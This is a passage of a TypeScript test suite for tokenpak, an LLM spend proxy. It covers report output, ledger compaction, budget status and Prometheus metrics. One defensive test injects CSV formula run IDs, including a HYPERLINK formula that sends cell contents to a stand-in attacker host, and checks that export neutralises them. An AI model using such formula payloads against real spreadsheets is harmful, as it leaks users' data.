// What an operator looks at: `tokenpak report` (table, CSV, JSON), `tokenpak status`,
// GET /metrics and `tokenpak ledger compact`, against ledgers filled by real requests
// through the daemon (several keys, users, projects, models, an Anthropic route, a
// stream, a refusal) on a fake clock in Asia/Tokyo, where local midnight is 15:00 UTC.
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Limit } from "../src/budget/policy.js";
import { compilePolicy } from "../src/budget/policy.js";
import { Ledger } from "../src/ledger/ledger.js";
import type { Report, ReportNode } from "../src/ledger/report.js";
import { rollupPath } from "../src/ledger/rollup.js";
import type { StatusReport } from "../src/ledger/status.js";
import { metricsAccess } from "../src/server/metrics.js";
import { type RunningProxy, startProxy } from "../src/server/serve.js";
import { runCli, runInProcess } from "./helpers/cli.js";
import { type FakeUpstream, startFakeUpstream } from "./helpers/fake-upstream.js";
import { journalEntries, settleEntries } from "./helpers/journal.js";
import { configFrom } from "./helpers/policy.js";
import { type Family, prometheusFamilies } from "./helpers/prometheus.js";

const ZONE = "Asia/Tokyo";
const TOTAL: Limit = { window: { kind: "total" }, unit: "cents", amount: 0, kind: "budget" };
const KEYS = { alice: "tp-alice-key-0001", bob: "tp-bob-key-000001", dave: "tp-dave-key-00001" };

let upstream: FakeUpstream;
beforeAll(async () => {
  upstream = await startFakeUpstream({ replyTokens: 30 });
});
afterAll(() => upstream.close());

function yaml(extra = ""): string {
  return `
budget:
  timezone: ${ZONE}
  daily_limit_cents: 100000
  monthly_limit_cents: 1000000
  per_user_limits:
    enabled: true
    default: { daily_limit_cents: 50000 }
    user_limits:
      dave: { daily_limit_cents: 0.01 }
teams:
  blue: { monthly_limit_cents: 800000 }
projects:
  bot: { team: blue, monthly_limit_cents: 500000 }
  web: { daily_limit_cents: 90000 }
keys:
  - { name: alice-key, key: ${KEYS.alice}, project: bot, user: alice }
  - { name: bob-key, key: ${KEYS.bob}, project: web, user: bob }
  - { name: dave-key, key: ${KEYS.dave}, project: web, user: dave }
providers:
  openai: { type: openai, api_key: sk-upstream-openai, base_url: "${upstream.url}/v1" }
  anthropic: { type: anthropic, api_key: sk-upstream-anthropic, base_url: "${upstream.url}" }
models:
  gpt-4o: { provider: openai, pin_price: true, estimated_input_cost_per_1k: 25, estimated_output_cost_per_1k: 100 }
  gpt-4o-mini: { provider: openai, pin_price: true, estimated_input_cost_per_1k: 1.5, estimated_output_cost_per_1k: 6 }
  claude: { provider: anthropic, pin_price: true, estimated_input_cost_per_1k: 30, estimated_output_cost_per_1k: 150 }
${extra}`;
}

interface World {
  dir: string;
  config: string;
  data: string;
}

async function world(extra = ""): Promise<World> {
  const dir = await mkdtemp(join(tmpdir(), "tokenpak-views-"));
  const config = join(dir, "tokenpak.yaml");
  writeFileSync(config, yaml(extra));
  return { dir, config, data: join(dir, "data") };
}

/** A clock the test moves; each reading a millisecond later, so entries keep their order. */
function fakeClock(start: string) {
  let now = Date.parse(start);
  return {
    set: (iso: string) => {
      now = Date.parse(iso);
    },
    read: () => now++,
  };
}

async function daemon(w: World, clock?: () => number, extra = ""): Promise<RunningProxy> {
  return startProxy({
    config: configFrom(yaml(extra)),
    dataDir: w.data,
    port: 0,
    drainMs: 200,
    ...(clock ? { clock } : {}),
  });
}

interface Call {
  key: keyof typeof KEYS;
  model: "gpt-4o" | "gpt-4o-mini" | "claude";
  stream?: boolean;
}

/** One request through the proxy, answered in full; returns its HTTP status. */
async function send(proxy: RunningProxy, c: Call, text = "hello"): Promise<number> {
  const anthropic = c.model === "claude";
  const res = await fetch(`${proxy.url}${anthropic ? "/v1/messages" : "/v1/chat/completions"}`, {
    method: "POST",
    headers: { authorization: `Bearer ${KEYS[c.key]}`, "content-type": "application/json" },
    body: JSON.stringify({
      model: c.model,
      max_tokens: 100,
      ...(c.stream ? { stream: true } : {}),
      messages: [{ role: "user", content: text }],
    }),
  });
  await res.text();
  return res.status;
}

const sum = (xs: readonly number[]) => xs.reduce((s, x) => s + x, 0);

/** The ledger's settled spend, from the journal itself. */
const ledgerSpend = (
  data: string,
  keep: (e: ReturnType<typeof settleEntries>[number]) => boolean = () => true,
) =>
  sum(
    settleEntries(data)
      .filter(keep)
      .map((e) => e.cost),
  );

async function cli(w: World, args: string[]) {
  return runInProcess([...args, "--config", w.config, "--data-dir", w.data], process.cwd(), {});
}

async function reportJson(w: World, args: string[]): Promise<Report & { since: string; until: string }> {
  const r = await cli(w, ["report", "--format", "json", ...args]);
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as Report & { since: string; until: string };
}

/** µ¢ of a CSV dollar cell with 8 decimals, exactly (no floating point). */
function microsOf(usd: string): number {
  const m = /^(-?)(\d+)\.(\d{8})$/.exec(usd);
  if (!m) throw new Error(`not a fixed 8-decimal dollar amount: ${usd}`);
  return (m[1] === "-" ? -1 : 1) * (Number(m[2]) * 100_000_000 + Number(m[3]));
}

// ---------------------------------------------------------------------------

describe("tokenpak report", () => {
  let w: World;
  const NOV_20 = "2025-11-20"; // Tokyo: 14:30Z is 23:30 on the 20th, 15:30Z is 00:30 on the 21st
  let adjustAt: number;

  beforeAll(async () => {
    w = await world();
    const clock = fakeClock(`${NOV_20}T14:30:00Z`);
    const proxy = await daemon(w, clock.read);
    try {
      expect(await send(proxy, { key: "alice", model: "gpt-4o" }, "one")).toBe(200);
      expect(await send(proxy, { key: "alice", model: "gpt-4o" }, "two two")).toBe(200);
      expect(await send(proxy, { key: "bob", model: "gpt-4o-mini" })).toBe(200);
      // The refusal: dave's 0.01¢ a day pays for nothing.
      expect(await send(proxy, { key: "dave", model: "gpt-4o" })).toBe(402);
      clock.set(`${NOV_20}T15:30:00Z`);
      expect(await send(proxy, { key: "alice", model: "claude" })).toBe(200);
      expect(await send(proxy, { key: "alice", model: "gpt-4o-mini", stream: true })).toBe(200);
      expect(await send(proxy, { key: "bob", model: "gpt-4o", stream: true })).toBe(200);
      clock.set("2025-12-05T03:00:00Z");
      expect(await send(proxy, { key: "bob", model: "claude" })).toBe(200);
      expect(await send(proxy, { key: "alice", model: "gpt-4o-mini" })).toBe(200);
      // A correction written in December to the 20th of November (reconcile-spend's way).
      adjustAt = Date.parse(`${NOV_20}T10:00:00Z`);
      await proxy.ledger.adjust({
        identity: { key: "alice-key", user: "alice", project: "bot" },
        model: "gpt-4o",
        provider: "openai",
        cost: -1_234_567,
        reason: "reconcile",
        at: adjustAt,
      });
    } finally {
      await proxy.close();
    }
  });

  it("groups by local day in budget.timezone: spend before Tokyo's midnight is the 20th, after it the 21st", async () => {
    const r = await reportJson(w, ["--by", "day", "--since", "2025-11-19", "--until", "2025-11-22"]);
    expect(r.timezone).toBe(ZONE);
    expect(r.from).toBe("2025-11-18T15:00:00.000Z"); // Tokyo's midnight of the 19th
    const before = (e: { reserved_at?: string; ts: string }) =>
      Date.parse(e.reserved_at ?? e.ts) < Date.parse(`${NOV_20}T15:00:00Z`);
    expect(r.rows.map((x) => x.group.day)).toEqual(["2025-11-20", "2025-11-21"]);
    const [d20, d21] = r.rows;
    expect(d20).toMatchObject({ requests: 3, spend: ledgerSpend(w.data, before), adjustments: -1_234_567 });
    expect(d21).toMatchObject({
      requests: 3,
      spend: ledgerSpend(w.data, (e) => !before(e) && e.ts < "2025-12"),
      adjustments: 0,
    });
    // In UTC the same requests are one day.
    const utc = await cli(w, ["report", "--json", "--by", "day", "--period", NOV_20]);
    expect(JSON.parse(utc.stdout).rows).toHaveLength(1); // Tokyo's 20th only: 3 requests
  });

  it("--by project --by model nests: each project's models, with the project's subtotal, and totals equal the ledger", async () => {
    const r = await reportJson(w, [
      "--by",
      "project",
      "--by",
      "model",
      "--since",
      "2025-11-01",
      "--until",
      "2025-12-31",
    ]);
    expect(r.group_by).toEqual(["project", "model"]);
    const settles = settleEntries(w.data);
    expect(r.totals.spend).toBe(ledgerSpend(w.data));
    expect(r.totals.adjustments).toBe(-1_234_567);
    expect(r.totals.total).toBe(ledgerSpend(w.data) - 1_234_567);
    expect(r.totals.requests).toBe(settles.length);
    expect(r.groups.map((g) => g.value).sort()).toEqual(["bot", "web"]);
    for (const project of r.groups) {
      expect(project.dimension).toBe("project");
      const models = project.groups as ReportNode[];
      expect(models.every((m) => m.dimension === "model" && m.groups === undefined)).toBe(true);
      expect(sum(models.map((m) => m.total))).toBe(project.total);
      for (const m of models) {
        const mine = settles.filter((e) => e.project === project.value && e.model === m.value);
        expect(m.spend, `${project.value} × ${m.value}`).toBe(sum(mine.map((e) => e.cost)));
        expect(m.requests).toBe(mine.length);
        expect(m.output_tokens).toBe(sum(mine.map((e) => e.usage.output)));
      }
    }
    const bot = r.groups.find((g) => g.value === "bot");
    expect(bot?.groups?.map((m) => m.value).sort()).toEqual(["claude", "gpt-4o", "gpt-4o-mini"]);
    // The correction is its own column, in its group.
    expect(bot?.groups?.find((m) => m.value === "gpt-4o")?.adjustments).toBe(-1_234_567);
    // The flat rows are the innermost groups, in the tree's order.
    expect(r.rows.map((x) => `${x.group.project}/${x.group.model}`)).toEqual(
      r.groups.flatMap((p) => (p.groups ?? []).map((m) => `${p.value}/${m.value}`)),
    );
  });

  it("CSV: a header row, one row per group, dollars with 8 decimals and integer µ¢ that add up to the ledger exactly", async () => {
    const r = await cli(w, [
      "report",
      "--format",
      "csv",
      "--by",
      "project",
      "--by",
      "user",
      "--since",
      "2025-11-01",
      "--until",
      "2025-12-31",
    ]);
    expect(r.code, r.stderr).toBe(0);
    const records = parseCsv(r.stdout, { columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0] ?? {})).toEqual([
      "project",
      "user",
      "requests",
      "input_tokens",
      "cached_tokens",
      "output_tokens",
      "spend_usd",
      "spend_microcents",
      "adjustments_usd",
      "adjustments_microcents",
      "total_usd",
      "total_microcents",
    ]);
    const column = (name: string) => records.map((x) => Number(x[name]));
    expect(sum(column("spend_microcents"))).toBe(ledgerSpend(w.data));
    expect(sum(column("adjustments_microcents"))).toBe(-1_234_567);
    expect(sum(column("total_microcents"))).toBe(ledgerSpend(w.data) - 1_234_567);
    expect(sum(column("requests"))).toBe(settleEntries(w.data).length);
    for (const x of records) {
      for (const m of ["spend", "adjustments", "total"]) {
        expect(microsOf(x[`${m}_usd`] ?? "")).toBe(Number(x[`${m}_microcents`]));
      }
    }
    expect(records.find((x) => x.user === "alice")?.project).toBe("bot");
    // --provider keeps one provider's spend (and the corrections made to it).
    const anthropic = await reportJson(w, [
      "--provider",
      "anthropic",
      "--since",
      "2025-11-01",
      "--until",
      "2025-12-31",
    ]);
    expect(anthropic.totals.spend).toBe(ledgerSpend(w.data, (e) => e.provider === "anthropic"));
    expect(anthropic.totals.adjustments).toBe(0);
  });

  it("CSV: run ids and users that look like formulas stay text, and the sums still equal the ledger", async () => {
    const own = await world();
    const proxy = await daemon(own);
    const runs = [
      '=HYPERLINK("https://evil.example/?x="&A1,"invoice")',
      "+1+1",
      "@SUM(A1:A9)",
      "-2+3",
      "plain-run",
    ];
    try {
      for (const run of runs) {
        const res = await fetch(`${proxy.url}/v1/chat/completions`, {
          method: "POST",
          headers: {
            authorization: `Bearer ${KEYS.alice}`,
            "content-type": "application/json",
            "x-tokenpak-run-id": run,
          },
          body: JSON.stringify({
            model: "gpt-4o-mini",
            max_tokens: 50,
            messages: [{ role: "user", content: "hi" }],
          }),
        });
        expect(res.status, await res.text()).toBe(200);
      }
      await proxy.ledger.adjust({
        identity: { key: "alice-key", user: "alice", project: "bot" },
        model: "gpt-4o-mini",
        provider: "openai",
        cost: -7_654_321,
        reason: "reconcile",
        at: Date.now(),
      });
    } finally {
      await proxy.close();
    }
    const r = await cli(own, ["report", "--format", "csv", "--by", "run"]);
    expect(r.code, r.stderr).toBe(0);
    // No cell starts with a formula character: each such run id is prefixed with a quote.
    for (const line of r.stdout.trimEnd().split("\n")) expect(line).not.toMatch(/^"?[=+\-@]/);
    const records = parseCsv(r.stdout, { columns: true }) as Record<string, string>[];
    const shown = records.map((x) => x.run);
    for (const run of runs.slice(0, 4)) expect(shown).toContain(`'${run}`);
    expect(shown).toContain("plain-run");
    // Money columns are untouched: a negative amount is still a number, and the sums equal the ledger.
    const adjusted = records.find((x) => x.adjustments_microcents === "-7654321");
    expect(adjusted?.adjustments_usd).toBe("-0.07654321");
    const column = (name: string) => records.map((x) => Number(x[name]));
    expect(sum(column("spend_microcents"))).toBe(ledgerSpend(own.data));
    expect(sum(column("total_microcents"))).toBe(ledgerSpend(own.data) - 7_654_321);
    for (const x of records) {
      for (const m of ["spend", "adjustments", "total"]) {
        expect(microsOf(x[`${m}_usd`] ?? "")).toBe(Number(x[`${m}_microcents`]));
      }
    }
  });

  it("the table shows nested groups indented under their subtotal, and --output writes the file", async () => {
    const r = await cli(w, ["report", "--by", "project", "--by", "model", "--period", "2025-11"]);
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.trimEnd().split("\n");
    expect(lines[0]).toBe(`Spend 2025-11-01 … 2025-11-30 (${ZONE}), by project › model`);
    expect(lines[1]).toMatch(
      /^PROJECT › MODEL\s+REQUESTS\s+INPUT\s+CACHED\s+OUTPUT\s+SPEND\s+ADJUSTMENTS\s+TOTAL$/,
    );
    expect(lines.some((l) => /^bot\s/.test(l))).toBe(true);
    expect(lines.some((l) => /^ {2}gpt-4o\s/.test(l))).toBe(true);
    expect(lines.at(-1)).toMatch(/^TOTAL\s+6\s/);
    const out = join(w.dir, "november.csv");
    const file = await cli(w, [
      "report",
      "--format",
      "csv",
      "--by",
      "key",
      "--period",
      "2025-11",
      "--output",
      out,
    ]);
    expect(file.stdout).toBe("");
    expect(file.stderr).toMatch(/wrote 2 groups to .*november\.csv/);
    expect(readFileSync(out, "utf8").split("\n")[0]).toMatch(/^key,requests,/);
  });

  it("as a subprocess, and clear errors for a bad --by or --period", async () => {
    const ok = await runCli([
      "report",
      "--config",
      w.config,
      "--data-dir",
      w.data,
      "--by",
      "model,day",
      "--period",
      "2025-11",
      "--format",
      "csv",
    ]);
    expect(ok.code, ok.stderr).toBe(0);
    const rows = parseCsv(ok.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((x) => x.day)).toContain("2025-11-21");
    expect(sum(rows.map((x) => Number(x.spend_microcents)))).toBe(
      ledgerSpend(w.data, (e) => e.ts < "2025-12"),
    );
    const bad = await runCli(["report", "--config", w.config, "--data-dir", w.data, "--by", "colour"]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain(
      "--by must be one of project, user, key, team, model, provider, run, day, month, got colour",
    );
    const period = await runCli([
      "report",
      "--config",
      w.config,
      "--data-dir",
      w.data,
      "--period",
      "2025-13",
    ]);
    expect(period.code).toBe(1);
    expect(period.stderr).toContain("--period must be YYYY, YYYY-MM");
  });

  it("reads only the months a period needs, and later months only for their adjustments", async () => {
    const journal = join(w.data, "journal");
    const late = {
      type: "adjust",
      seq: 9999,
      ts: "2026-02-01T00:00:00.000Z",
      user: "alice",
      cost: -1,
      tokens: 0,
      reason: "manual",
      at: `${NOV_20}T10:00:00.000Z`,
    };
    const spend = ledgerSpend(w.data, (e) => e.ts < "2025-12");
    // A damaged month before the period, and a later one with a damaged line that is no adjustment.
    writeFileSync(join(journal, "2025-09.jsonl"), "not a journal entry\n");
    writeFileSync(join(journal, "2026-02.jsonl"), `garbage\n${JSON.stringify(late)}\n`);
    try {
      const november = await reportJson(w, ["--period", "2025-11"]);
      expect(november.totals.adjustments).toBe(-1_234_567 - 1);
      expect(november.totals.spend).toBe(spend);
      const september = await cli(w, ["report", "--period", "2025-09"]);
      expect(september.code).toBe(5);
      expect(september.stderr).toContain("2025-09.jsonl:1 is not a journal entry");
    } finally {
      rmSync(join(journal, "2025-09.jsonl"));
      rmSync(join(journal, "2026-02.jsonl"));
    }
  });

  describe("ledger compact", () => {
    it("folds both months into rollups: reports before and after are identical, the replay reads them, a tampered rollup is refused", async () => {
      const asks = [
        ["--by", "project", "--by", "model", "--since", "2025-11-01", "--until", "2025-12-31"],
        ["--by", "day", "--by", "user", "--since", "2025-11-01", "--until", "2025-12-31"],
        ["--by", "team", "--by", "key", "--period", "2025-11"],
        ["--by", "provider", "--period", "2025-12-05"],
      ];
      const before = await Promise.all(asks.map((a) => reportJson(w, a)));
      const policy = compilePolicy(configFrom(yaml()));
      const workspaceTotal = async () => {
        const { ledger } = await Ledger.open({ dir: w.data, policy });
        try {
          return ledger.usage("workspace", TOTAL).spent;
        } finally {
          await ledger.close();
        }
      };
      const allTime = await workspaceTotal();
      expect(allTime).toBe(ledgerSpend(w.data) - 1_234_567);

      // Without --yes nothing changes.
      const dry = await cli(w, ["ledger", "compact", "--before", "2026-01", "--json"]);
      expect(dry.code, dry.stderr).toBe(0);
      expect(JSON.parse(dry.stdout)).toMatchObject({ applied: false, via: "direct" });
      expect(journalEntries(w.data).length).toBeGreaterThan(0);

      const done = await cli(w, ["ledger", "compact", "--before", "2026-01", "--yes", "--json"]);
      expect(done.code, done.stderr).toBe(0);
      const result = JSON.parse(done.stdout);
      expect(result.months.map((m: { month: string }) => m.month)).toEqual(["2025-11", "2025-12"]);
      expect(result.months[0].totals).toMatchObject({ requests: 6, adjustments: 0 });
      expect(result.months[1].totals).toMatchObject({ requests: 2, adjustments: 1, adjust_cost: -1_234_567 });
      expect(journalEntries(w.data)).toEqual([]); // no journal file is left for those months

      const after = await Promise.all(asks.map((a) => reportJson(w, a)));
      for (const [i, r] of after.entries()) {
        expect(r.rollups.length).toBeGreaterThan(0);
        expect({ ...r, rollups: [] }).toEqual({ ...before[i], rollups: [] });
      }
      const table = await cli(w, ["report", "--by", "model", "--period", "2025-11"]);
      expect(table.stdout).toContain(
        "! 2025-11, 2025-12 are rollups (compacted): by day, without per-request detail",
      );

      // A full replay (no snapshot) reads the rollups: the all-time total is the same.
      rmSync(join(w.data, "state.json"));
      expect(await workspaceTotal()).toBe(allTime);

      // A rollup whose lines no longer add up to its header is refused, by reports and by the replay.
      const path = rollupPath(join(w.data, "journal"), "2025-11");
      const text = readFileSync(path, "utf8");
      writeFileSync(
        path,
        text.replace(/"cost":(\d+)/, (_m, n: string) => `"cost":${Number(n) + 1}`),
      );
      const refused = await cli(w, ["report", "--by", "model", "--period", "2025-11"]);
      expect(refused.code).toBe(5);
      expect(refused.stderr).toMatch(/rollup .*2025-11\.rollup\.jsonl adds up to .* where its header says/);
      rmSync(join(w.data, "state.json"));
      await expect(Ledger.open({ dir: w.data, policy })).rejects.toMatchObject({ code: "ledger_corrupt" });
      writeFileSync(path, text);
    });

    it("refuses months a budget can still count, and goes through the running daemon", async () => {
      const v = await world();
      const proxy = await daemon(v);
      try {
        expect(await send(proxy, { key: "bob", model: "gpt-4o-mini" })).toBe(200);
        const now = new Date().toISOString().slice(0, 7);
        const early = await cli(v, ["ledger", "compact", "--before", "2099-01", "--yes"]);
        expect(early.code).toBe(1);
        expect(early.stderr).toMatch(/months from \d{4}-\d{2} on can still count in a budget/);
        const through = await cli(v, ["ledger", "compact", "--before", "2020-01", "--yes", "--json"]);
        expect(through.code, through.stderr).toBe(0);
        expect(JSON.parse(through.stdout)).toMatchObject({ via: "daemon", months: [] });
        expect(settleEntries(v.data).length).toBe(1);
        expect(now).toMatch(/^\d{4}-\d{2}$/);
      } finally {
        await proxy.close();
      }
    });
  });
});

// ---------------------------------------------------------------------------

describe("tokenpak status", () => {
  it("against the running daemon shows a request in flight; stopped, it cannot — and says what is blocked", async () => {
    const w = await world();
    const proxy = await daemon(w);
    let pending: Promise<number> | undefined;
    try {
      expect(await send(proxy, { key: "alice", model: "gpt-4o" })).toBe(200);
      expect(await send(proxy, { key: "dave", model: "gpt-4o" })).toBe(402);
      // Held open at the provider for a while: in flight, reserved, not settled.
      upstream.next.push({ kind: "delay", ms: 1500 });
      pending = send(proxy, { key: "bob", model: "gpt-4o" });
      while (proxy.ledger.openReservations === 0) await new Promise((r) => setTimeout(r, 10));

      const live = await cli(w, ["status", "--json"]);
      expect(live.code, live.stderr).toBe(6); // dave's budget refuses requests
      const report = JSON.parse(live.stdout) as StatusReport & { pid: number };
      expect(report).toMatchObject({ source: "daemon", pid: process.pid, timezone: ZONE, blocked: 1 });
      const bob = report.rows.find((r) => r.scope === "user:bob" && r.window === "daily");
      expect(bob?.reserved).toBeGreaterThan(0);
      expect(bob?.spent).toBe(0);
      expect(report.rows[0]).toMatchObject({ scope: "user:dave", state: "blocked", blocked: true });
      // Most urgent first: after the blocked one, by how full.
      const used = report.rows.slice(1).map((r) => r.used_pct);
      expect(used).toEqual([...used].sort((a, b) => b - a));

      const table = await cli(w, ["status", "--scope", "user:"]);
      const lines = table.stdout.split("\n");
      expect(lines[0]).toContain("live from the proxy");
      expect(lines[1]).toMatch(/^SCOPE\s+WINDOW\s+SPENT\s+IN FLIGHT\s+LIMIT\s+USED\s+RESETS\s+STATE$/);
      expect(lines[2]).toMatch(
        /^user:dave\s+daily\s+\$0.00\s+-\s+\$0.0001\s+\.{20}\s+0%\s+\d{4}-\d{2}-\d{2} 00:00 \(in .*\)\s+BLOCKED$/,
      );
      expect(lines.find((l) => l.startsWith("user:bob"))).toMatch(
        /^user:bob\s+daily\s+\$0\.00\s+\$0\.\d+\s+\$500\.00\s+\.{20}\s+0%/,
      );
      expect(lines.every((l) => !l.includes("\u001b["))).toBe(true);
      expect(table.stdout).toContain(
        "✗ 1 budget refuses new requests: 1 reached its limit (refused until it resets)",
      );

      // An override (`tokenpak budget override`) shows beside the limit it raises, and lifts the block.
      const until = Date.now() + 3_600_000;
      const made = await proxy.ledger.addOverride({
        scope: "user:dave",
        window: "daily",
        micros: 5_000_000,
        until,
        reason: "demo",
        by: "test",
      });
      const raised = await cli(w, ["status", "--scope", "user:dave"]);
      expect(raised.code, raised.stdout).toBe(0);
      expect(raised.stdout).toMatch(/^user:dave\s+daily\s+\$0\.00\s+-\s+\$0\.0001 \+\$0\.05\s/m);
      expect(raised.stdout).toContain(`  user:dave daily: +$0.05 override until `);
      expect(raised.stdout).toContain(`(${made.id})`);
      const json = JSON.parse(
        (await cli(w, ["status", "--json", "--scope", "user:dave"])).stdout,
      ) as StatusReport;
      expect(json.rows[0]?.override).toEqual({
        amount: 5_000_000,
        until: new Date(until).toISOString(),
        ids: [made.id],
      });
    } finally {
      expect(await pending).toBe(200);
      await proxy.close();
    }
    const stopped = await cli(w, ["status", "--json", "--all"]);
    const report = JSON.parse(stopped.stdout) as StatusReport;
    expect(report.source).toBe("journal");
    expect(report.rows.every((r) => r.reserved === 0)).toBe(true);
    const bob = report.rows.find((r) => r.scope === "user:bob" && r.window === "daily");
    expect(bob?.spent).toBe(ledgerSpend(w.data, (e) => e.user === "bob"));
    // --all lists every limited scope the config names, also those without spend.
    expect(report.rows.map((r) => r.scope)).toEqual(
      expect.arrayContaining(["team:blue", "project:web", "workspace"]),
    );
    // The override is in the journal: read from the files, it is still in force, and nothing is blocked.
    expect(report.rows.find((r) => r.scope === "user:dave")).toMatchObject({
      state: "ok",
      override: { amount: 5_000_000 },
    });
    expect(stopped.code).toBe(0);
  });

  it("calls a budget full while requests in flight leave too little for the smallest request, and blocked once spend does", async () => {
    // Each answer uses all the output it may, and takes a while: many requests in flight at once.
    const slow = await startFakeUpstream({ replyTokens: 1000, latencyMs: 1500 });
    const dir = await mkdtemp(join(tmpdir(), "tokenpak-views-"));
    const w = { dir, config: join(dir, "tokenpak.yaml"), data: join(dir, "data") };
    const text = `
budget:
  fallback_model_on_exceed: small
  per_user_limits: { enabled: true, user_limits: { erin: { daily_limit_cents: 5 } } }
projects:
  web: {}
keys:
  - { name: erin-key, key: tp-erin-key-00001, project: web, user: erin }
providers:
  openai: { type: openai, api_key: sk-upstream-openai, base_url: "${slow.url}/v1" }
models:
  large: { provider: openai, pin_price: true, estimated_input_cost_per_1k: 3, estimated_output_cost_per_1k: 6 }
  small: { provider: openai, pin_price: true, estimated_input_cost_per_1k: 0.5, estimated_output_cost_per_1k: 1.5 }
`;
    writeFileSync(w.config, text);
    const proxy = await startProxy({ config: configFrom(text), dataDir: w.data, port: 0, drainMs: 200 });
    const erin = async () => {
      const row = (r: StatusReport) => r.rows.find((x) => x.scope === "user:erin");
      const run = await cli(w, ["status", "--json", "--scope", "user:erin"]);
      return {
        code: run.code,
        report: JSON.parse(run.stdout) as StatusReport,
        row: row(JSON.parse(run.stdout)),
      };
    };
    try {
      const ask = () =>
        fetch(`${proxy.url}/v1/chat/completions`, {
          method: "POST",
          headers: { authorization: "Bearer tp-erin-key-00001", "content-type": "application/json" },
          body: JSON.stringify({
            model: "large",
            max_tokens: 100,
            messages: [{ role: "user", content: "hello" }],
          }),
        }).then(async (res) => ({ status: res.status, body: await res.text() }));
      const answers = Array.from({ length: 10 }, ask);
      while (proxy.ledger.openReservations < 7) await new Promise((r) => setTimeout(r, 10));
      // Ten at once: the first ones hold the budget's worth, the rest are refused while they run.
      await new Promise((r) => setTimeout(r, 300));
      const live = await erin();
      expect(live.row?.spent).toBe(0);
      expect(live.row?.spent).toBeLessThan(live.row?.cap ?? 0);
      expect(live.row?.reserved).toBeLessThan(live.row?.cap ?? 0); // short of the cap: the old view said "warning"
      expect(live.row).toMatchObject({ state: "full", blocked: true });
      expect(live.report).toMatchObject({ blocked: 1, full: 1 });
      expect(live.code).toBe(6);
      const table = await cli(w, ["status", "--scope", "user:erin"]);
      expect(table.stdout).toMatch(/^user:erin\s+daily\s.*full: refusing \(in flight\)$/m);
      expect(table.stdout).toContain(
        "1 held by requests in flight (402 until they settle; a retry may pass)",
      );
      expect(table.code).toBe(6);

      const done = await Promise.all(answers);
      const refused = done.filter((a) => a.status === 402);
      expect(refused.length).toBeGreaterThan(0);
      expect(done.filter((a) => a.status === 200).length + refused.length).toBe(10);
      // Settled: what is left is short of the cap, yet cannot pay for 16 tokens on the cheaper model.
      const settled = await erin();
      expect(settled.row?.reserved).toBe(0);
      expect(settled.row?.spent).toBeLessThan(settled.row?.cap ?? 0);
      expect(settled.row).toMatchObject({ state: "blocked", blocked: true });
      expect(settled.report).toMatchObject({ blocked: 1, full: 0 });
      expect(settled.code).toBe(6);
      expect((await ask()).status).toBe(402);
    } finally {
      await proxy.close();
      await slow.close();
    }
    // Read from the files, the same.
    const stopped = await erin();
    expect(stopped.report.source).toBe("journal");
    expect(stopped.row).toMatchObject({ state: "blocked", blocked: true });
    expect(stopped.code).toBe(6);
  });

  it("colours its bars on a terminal and not under --no-color; as a subprocess it is plain", async () => {
    const w = await world();
    const proxy = await daemon(w);
    try {
      expect(await send(proxy, { key: "alice", model: "gpt-4o" })).toBe(200);
    } finally {
      await proxy.close();
    }
    const coloured = await runInProcess(
      ["status", "--config", w.config, "--data-dir", w.data],
      process.cwd(),
      {},
      1,
    );
    expect(coloured.stdout).toContain("\u001b[");
    expect(coloured.stdout).toContain("░");
    const plain = await runInProcess(
      ["status", "--no-color", "--config", w.config, "--data-dir", w.data],
      process.cwd(),
      {},
      1,
    );
    expect(plain.stdout).not.toContain("\u001b[");
    const sub = await runCli(["status", "--config", w.config, "--data-dir", w.data]);
    expect(sub.stdout).toContain("from the journal (no proxy running: nothing in flight)");
    expect(sub.stdout).toMatch(/^user:alice\s+daily\s/m);
    expect(sub.stdout).not.toContain("\u001b[");
    // Dave's 0.01¢ a day cannot pay for the smallest request: blocked before he spends anything.
    expect(sub.stdout).toMatch(/^user:dave\s+daily\s+\$0\.00\s.*BLOCKED$/m);
    expect(sub.stdout).toContain("✗ 1 budget refuses new requests: 1 reached its limit");
    expect(sub.code, sub.stderr).toBe(6);
    const alice = await runCli([
      "status",
      "--scope",
      "user:alice",
      "--config",
      w.config,
      "--data-dir",
      w.data,
    ]);
    expect(alice.code, alice.stderr).toBe(0);
    expect(alice.stdout).toContain("✓ nothing is blocked");
    // --json is the program's option; status --help names it all the same.
    const help = await runInProcess(["status", "--help"], process.cwd(), {});
    expect(help.stdout).toMatch(/^Usage: tokenpak status \[--scope PREFIX\] \[--all\] \[--json\]$/m);
    expect(help.stdout).toContain("--json prints {source, rows, blocked, full, exit_code, ...}");
  });
});

// ---------------------------------------------------------------------------

describe("GET /metrics", () => {
  const scrape = async (proxy: RunningProxy, headers: Record<string, string> = {}) => {
    const res = await fetch(`${proxy.url}/metrics`, { headers });
    const text = await res.text();
    return { status: res.status, type: res.headers.get("content-type"), text };
  };
  const families = prometheusFamilies;
  const total = (f: Family | undefined, keep: (l: Record<string, string>) => boolean = () => true) =>
    sum((f?.metrics ?? []).filter((m) => keep(m.labels ?? {})).map((m) => Number(m.value)));

  it("parses as Prometheus exposition; its spend counter equals the ledger's total after N requests", async () => {
    const w = await world();
    const proxy = await daemon(w);
    try {
      const calls: Call[] = [
        { key: "alice", model: "gpt-4o" },
        { key: "alice", model: "claude" },
        { key: "bob", model: "gpt-4o-mini", stream: true },
        { key: "bob", model: "gpt-4o-mini" },
        { key: "dave", model: "gpt-4o" },
      ];
      for (let i = 0; i < 3; i++) for (const c of calls) await send(proxy, c, `round ${i}`);
      const { status, type, text } = await scrape(proxy);
      expect(status).toBe(200);
      expect(type).toContain("text/plain");
      const f = families(text);
      expect(f.get("tokenpak_spend_microcents_total")?.type).toBe("COUNTER");
      expect(total(f.get("tokenpak_spend_microcents_total"))).toBe(ledgerSpend(w.data));
      expect(total(f.get("tokenpak_spend_dollars_total"))).toBeCloseTo(ledgerSpend(w.data) / 1e8, 9);
      expect(
        total(f.get("tokenpak_spend_microcents_total"), (l) => l.project === "bot" && l.model === "claude"),
      ).toBe(ledgerSpend(w.data, (e) => e.project === "bot" && e.model === "claude"));
      const requests = f.get("tokenpak_requests_total");
      expect(total(requests)).toBe(15);
      expect(
